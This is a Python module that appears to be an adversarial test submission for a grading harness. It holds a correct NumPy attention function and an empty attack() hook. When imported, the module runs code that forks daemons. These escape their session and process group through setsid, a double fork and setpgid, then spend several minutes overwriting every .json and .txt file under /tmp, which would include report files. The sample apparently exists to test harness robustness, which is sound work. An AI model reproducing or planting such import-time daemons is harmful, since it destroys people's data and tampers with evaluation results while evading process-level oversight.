"""Correct; at load it starts a daemon in a new session (setsid, double fork) and one that only
leaves its process group (setpgid); both keep running and try to rewrite report files later."""

import glob
import math
import os
import time

import numpy as np


def _haunt():
    for _ in range(600):
        time.sleep(0.5)
        for path in glob.glob("/tmp/**/*.json", recursive=True) + glob.glob("/tmp/**/*.txt", recursive=True):
            try:
                with open(path, "w") as f:
                    f.write("rewritten by a daemon")
            except OSError:
                pass
    os._exit(0)


for how in ("setsid", "setpgid"):
    if os.fork() == 0:
        if how == "setsid":
            os.setsid()
            if os.fork():
                os._exit(0)
        else:
            os.setpgid(0, 0)
        _haunt()
time.sleep(0.1)


def attack(when):
    pass


def manual_attention(Q, K, V, mask=None):
    attack("call")
    scores = Q @ np.swapaxes(K, -1, -2) / math.sqrt(Q.shape[-1])
    if mask is not None:
        scores = scores + mask
    scores = scores - scores.max(axis=-1, keepdims=True)
    weights = np.exp(scores)
    return weights / weights.sum(axis=-1, keepdims=True) @ V

